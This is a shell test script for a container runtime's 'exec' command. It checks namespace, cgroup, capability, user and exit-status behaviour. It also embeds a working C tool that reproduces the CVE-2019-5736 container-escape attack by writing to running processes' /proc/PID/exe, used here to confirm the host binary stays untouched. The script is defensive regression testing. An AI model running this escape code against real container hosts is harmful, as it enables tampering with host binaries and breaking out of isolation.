#!/bin/sh
# See LICENSE file for copyright and license details.
#
# pieces exec: a command in a running container sees what the container's
# own command sees (its namespaces, cgroups, root, environment, user,
# capabilities, filter), its status passes out, and nothing exec puts in
# the container runs the host's binary (the CVE-2019-5736 attack, from a
# container process given SYS_PTRACE).
. "$(dirname "$0")/lib.sh"

if ! needroot; then
	skip "pieces exec" "needs root"
	finish
fi
S=$T/store
p import "$ALPINE" alpine >/dev/null || { skip "pieces exec" "import failed"; finish; }

# state FIELD NAME: a field of container NAME's state (its init's "pid",
# its "supervisor")
state() {
	sed -n "s/.*\"$1\":\([0-9]*\).*/\1/p" \
		$(grep -l "\"pieces.name\":\"$2\"" "$S"/containers/*/state.json)
}
# halves: the two halves of $T/out, apart at a line "--", into $T/a and
# $T/b; same: are they the same, and not empty?
halves() {
	sed '/^--$/,$d' "$T/out" >"$T/a"
	sed '1,/^--$/d' "$T/out" >"$T/b"
}
same() {
	[ -s "$T/a" ] && cmp -s "$T/a" "$T/b"
}

p run -d --name web --net none --hostname box -e FOO=bar -w /etc --pids-limit 8 \
	alpine sleep 1000 >/dev/null || { skip "pieces exec" "run -d failed"; finish; }
atexit "'$PIECES' -r '$S' rm -f web"
init=$(state pid web)

ok "exec runs a command in the container" p exec web echo hi
is "its output" "$(cat "$T/out")" hi

# the container's world
run p exec web sh -c 'tr -s "\0" " " </proc/1/cmdline; tr "\0" " " </proc/2/cmdline'
is "its PID namespace: pid 1 is the container's init, 2 its command" "$(cat "$T/out")" \
	"pieces-init sleep 1000 "
run p exec web sh -c 'for n in mnt uts ipc net pid cgroup; do
	echo "$(readlink /proc/self/ns/$n) $(readlink /proc/2/ns/$n)"; done'
is "every namespace is the container command's" \
	"$(awk '$1 != $2 || $1 == "" { bad++ } END { print NR, bad + 0 }' "$T/out")" "6 0"
is "its host name" "$(p exec web hostname)" box
run p exec web sh -c 'cat /proc/self/mountinfo; echo --; cat /proc/2/mountinfo'
halves
ok "its mounts: /proc/self/mountinfo is the command's" same
run p exec web sh -c 'cat /proc/self/cgroup; echo --; cat /proc/2/cgroup'
halves
ok "its cgroups, as its cgroup namespace shows them" same
# seen from the host: the exec'd process is in init's cgroups
p exec -d web sleep 19$$
ep=$(pgrep -f "^sleep 19$$\$")
is "from the host, the exec'd process is in init's cgroups" \
	"$(cat "/proc/$ep/cgroup" 2>&1)" "$(cat "/proc/$init/cgroup")"
[ -n "$ep" ] && kill "$ep"
# --pids-limit 8 counts what exec starts: init and its command are two
run p exec web sh -c 'for i in 1 2 3 4 5 6 7 8; do sleep 1 & done; wait'
is "its pids limit counts the exec'd processes" "$(grep -q "can't fork" "$T/err" && echo refused)" \
	refused
sleep 1
run p exec web grep -E '^(CapEff|NoNewPrivs|Seccomp):' /proc/self/status
is "its capabilities, no_new_privs and seccomp filter" "$(cat "$T/out")" \
	"$(p exec web grep -E '^(CapEff|NoNewPrivs|Seccomp):' /proc/2/status)"
is "the filter is on: Seccomp 2" "$(grep Seccomp: "$T/out" | tr -d '\t')" "Seccomp:2"
is "the capabilities are Docker's default" "$(grep CapEff: "$T/out" | tr -d '\t')" \
	"CapEff:00000000a80405fb"
p run -d --name free --net none --security-opt seccomp=unconfined --cap-add SYS_ADMIN \
	alpine sleep 1000 >/dev/null
atexit "'$PIECES' -r '$S' rm -f free"
run p exec free grep -E '^(CapEff|Seccomp):' /proc/self/status
is "an unconfined container's exec: no filter, its capabilities" "$(tr -d '\t' <"$T/out")" \
	"CapEff:00000000a82405fb
Seccomp:0"

# environment, user, working directory
is "the container's environment" "$(p exec web sh -c 'echo $FOO $HOME $PATH')" \
	"bar /root /usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
is "-e adds to it and overrides" "$(p exec -e FOO=baz -e A=1 web sh -c 'echo $FOO $A')" "baz 1"
is "the container's working directory" "$(p exec web pwd)" /etc
is "-w" "$(p exec -w /tmp web pwd)" /tmp
fails "-w relative: 125" 125 "workdir tmp: not an absolute path" p exec -w tmp web pwd
fails "-w missing: 125" 125 "workdir /nonexistent" p exec -w /nonexistent web pwd
fails "-w /proc/self/fd/N never reaches the host" 125 "workdir" \
	p exec -w /proc/self/fd/3 web pwd
run p exec web sh -c 'grep -E "^(Uid|Gid|Groups):" /proc/self/status; echo --
	grep -E "^(Uid|Gid|Groups):" /proc/2/status'
halves
ok "the container's user and groups" same
is "-u nobody" "$(p exec -u nobody web sh -c 'id -u; id -g; echo $HOME')" "65534
65534
/"
is "-u nobody: no capabilities left" "$(p exec -u nobody web grep CapEff: /proc/self/status |
	tr -d '\t')" "CapEff:0000000000000000"
is "-u uid:gid" "$(p exec -u 1234:5678 web sh -c 'id -u; id -g')" "1234
5678"
fails "-u of no such user: run's message, 125" 125 "user nosuch: not in the image's /etc/passwd" \
	p exec -u nosuch web true
# the user is looked up in the running container's own files, through
# its root: a user added since, behind an absolute symlink the host
# does not have
p exec web sh -c 'echo "zed:x:4321:4321::/home/zed:/bin/sh" >>/etc/passwd &&
	mv /etc/passwd /etc/pw2 && ln -s /etc/pw2 /etc/passwd'
is "-u finds a user added in the container, behind its own symlink" \
	"$(p exec -u zed web sh -c 'id -u; echo $HOME')" "4321
/home/zed"
is "-e HOME wins over the user's" "$(p exec -u zed -e HOME=/x web sh -c 'echo $HOME')" /x
p exec web sh -c 'mv /etc/group /etc/group.1 && mkfifo /etc/group'
fails "a fifo as /etc/group is refused, not opened" 125 "/etc/group of the image: not a regular file" \
	timeout 20 "$PIECES" -r "$S" exec -u zed web true
p exec web sh -c 'rm /etc/group && mv /etc/group.1 /etc/group'

# exit statuses and signals
run p exec web sh -c 'exit 7'
is "the command's exit status passes out" "$rc" 7
run p exec web sh -c 'kill -9 $$'
is "killed by a signal: 128+signal" "$rc" 137
fails "a command not found: run's message, 127" 127 "web: nosuch: no such file or directory in \$PATH" \
	p exec web nosuch
fails "a command that cannot be executed: 126" 126 "web: /etc/passwd: cannot execute" \
	p exec web /etc/passwd
env --default-signal "$PIECES" -r "$S" exec web sh -c \
	'trap "echo got; exit 3" TERM; echo ready; while :; do sleep 0.05; done' >"$T/sig" 2>&1 &
pid=$!
i=0
while ! grep -q ready "$T/sig" 2>/dev/null && [ $i -lt 100 ]; do
	sleep 0.05
	i=$((i + 1))
done
kill -TERM $pid
wait $pid
st=$?
is "SIGTERM reaches the exec'd command" "$(tail -n 1 "$T/sig") $st" "got 3"
is "stdin with -i" "$(echo hi | p exec -i web cat)" hi
is "no stdin without -i" "$(echo hi | p exec web cat)" ""

# -d
run p exec -d web sh -c 'sleep 0.5; echo done >/tmp/detached'
is "-d returns at once, with nothing printed" "$rc $(cat "$T/out")" "0 "
sleep 1
is "-d: the command ran on" "$(p exec web cat /tmp/detached)" done
fails "-d with -t: 125" 125 "a detached command" p exec -dt web true

# a terminal, through script(1)
if command -v script >/dev/null; then
	run script -qec "'$PIECES' -r '$S' exec -t web sh -c 'tty; echo \$TERM; exit 5'" /dev/null
	is "-t: a pty of the container's devpts, TERM" "$(tr -d '\r' <"$T/out" | tr -d '\0')" \
		"/dev/pts/0
xterm"
	is "-t: exit status" "$rc" 5
	run sh -c "printf 'echo in\$((6 * 7))\nexit 4\n' | script -qec \"'$PIECES' -r '$S' exec -it web sh\" /dev/null"
	is "-it: a shell reads the terminal" "$(tr -d '\r' <"$T/out" | grep -c '^in42$') $rc" "1 4"
	# script's input stays open: at its end script would type on
	run sh -c "sleep 1 | script -qec \"stty -g; '$PIECES' -r '$S' exec -it web true; stty -g\" /dev/null"
	is "-it: the terminal is restored" "$(tr -d '\r' <"$T/out" | uniq | wc -l)" 1
else
	skip "-t" "no script(1)"
fi

# CVE-2019-5736 as an attack from inside: a process of the container
# given SYS_PTRACE stops every new process there, reads where its
# /proc/PID/exe leads, holds it open, and once the process is gone
# appends to it; exec runs commands that are not found on a long PATH,
# so that it is caught before its exec, as the sealed copy of pieces
if command -v musl-gcc >/dev/null; then
	cat >"$T/catch.c" <<'EOF'
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static unsigned char seen[1 << 22];

static void
look(int mark)
{
	static int held[512], n;
	char path[64], exe[4096];
	struct dirent *de;
	ssize_t len;
	long pid;
	DIR *d;
	int fd;

	if (!(d = opendir("/proc")))
		exit(1);
	while ((de = readdir(d))) {
		if ((pid = atol(de->d_name)) <= 0 || pid >= (long)sizeof(seen) || seen[pid] ||
		    (seen[pid] = 1, mark) || pid == getpid() || kill(pid, SIGSTOP) < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
		len = readlink(path, exe, sizeof(exe) - 1);
		exe[len < 0 ? 0 : len] = '\0';
		if ((fd = open(path, O_WRONLY | O_APPEND)) >= 0 && write(fd, "x", 1) == 1)
			printf("wrote running %s\n", exe);
		if (fd >= 0)
			close(fd);
		if (len > 0 && n < 512 && (fd = open(path, O_RDONLY)) >= 0)
			held[n++] = fd;
		kill(pid, SIGCONT);
		printf("caught %s\n", len > 0 ? exe : "?");
	}
	closedir(d);
	if (mark != 2)
		return;
	/* the second half: the file, no longer running, reopened */
	for (fd = 0; fd < n; fd++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[fd]);
		len = readlink(path, exe, sizeof(exe) - 1);
		exe[len < 0 ? 0 : len] = '\0';
		if ((pid = open(path, O_WRONLY | O_APPEND)) >= 0 && write(pid, "x", 1) == 1)
			printf("wrote %s\n", exe);
	}
}

int
main(int argc, char *argv[])
{
	struct timespec t0, t;

	look(1);
	printf("ready\n");
	fflush(stdout);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	do {
		look(0);
		clock_gettime(CLOCK_MONOTONIC, &t);
	} while ((t.tv_sec - t0.tv_sec) * 1000 + (t.tv_nsec - t0.tv_nsec) / 1000000 <
	         atol(argv[1]));
	sleep(1);
	look(2);
	return 0;
}
EOF
	if musl-gcc -static -O2 -o "$T/catch" "$T/catch.c"; then
		mkdir "$T/atk"
		tar -C "$T/atk" -xzf "$ALPINE"
		cp "$T/catch" "$T/atk/catch"
		tar -C "$T/atk" -czf "$T/atk.tar.gz" .
		p import "$T/atk.tar.gz" atk >/dev/null
		p run -d --name atk --net none --cap-add SYS_PTRACE atk sleep 1000 >/dev/null
		atexit "'$PIECES' -r '$S' rm -f atk"
		sum=$(sha256sum <"$PIECES")
		"$PIECES" -r "$S" exec atk /catch 6000 >"$T/caught" 2>&1 &
		catcher=$!
		i=0
		while ! grep -q ready "$T/caught" 2>/dev/null && [ $i -lt 100 ]; do
			sleep 0.05
			i=$((i + 1))
		done
		# a PATH of 1,000 directories: the command looks a while
		long=$(awk 'BEGIN { for (i = 0; i < 1000; i++) printf "/n%d:", i; print "/bin" }')
		for i in 1 2 3 4 5 6 7 8 9 10; do
			"$PIECES" -r "$S" exec -e PATH="$long" atk nosuch >/dev/null 2>&1
			"$PIECES" -r "$S" exec -e PATH="$long" atk true >/dev/null 2>&1
		done
		wait $catcher
		n=$(grep -c '^caught /memfd:pieces-exec (deleted)$' "$T/caught")
		echo "# the catcher caught $n of 20 before their exec"
		if [ "$n" -gt 0 ]; then
			is "caught before its exec, exec's process is the sealed copy" \
				"$(grep '^caught' "$T/caught" | grep -v -e '^caught /memfd:pieces-exec (deleted)$' \
				-e '^caught /bin/busybox$' -e '^caught ?$')" ""
		else
			skip "caught before its exec" "the catcher caught none of 20 in time"
		fi
		is "nothing of exec's could be written, running or after" \
			"$(grep '^wrote' "$T/caught" | grep -v ' /bin/busybox$')" ""
		is "the host's pieces is untouched" "$(sha256sum <"$PIECES")" "$sum"
		is "no host path shows in the container" "$(grep -c "$(dirname "$PIECES")" "$T/caught")" 0
	else
		skip "CVE-2019-5736" "cannot build the attack tool"
	fi
else
	skip "CVE-2019-5736" "no musl-gcc for the attack tool"
fi

# a container that does not run
p run -d --name gone --net none alpine sleep 1000 >/dev/null
atexit "'$PIECES' -r '$S' rm -f gone"
p stop -t 0 gone >/dev/null
fails "a stopped container: one line, 125" 125 "container gone is not running" p exec gone true
is "and only that line" "$(wc -l <"$T/err")" 1
p run -d --name stale --net none alpine sleep 1000 >/dev/null
atexit "'$PIECES' -r '$S' rm -f stale"
kill -9 "$(state supervisor stale)"
sleep 0.3
fails "a stale container (its supervisor killed): 125" 125 "container stale is not running" \
	p exec stale true
fails "no such container: 125" 125 "nosuch: no such container" p exec nosuch true
fails "no command: usage, 125" 125 "usage: pieces exec" p exec web

# what exec left: no process
run p exec web ps -o pid,args
is "nothing of exec's stays in the container" \
	"$(awk 'NR > 1 && $1 != 1 && $2 $3 != "sleep1000" && $2 != "ps"' "$T/out")" ""
finish
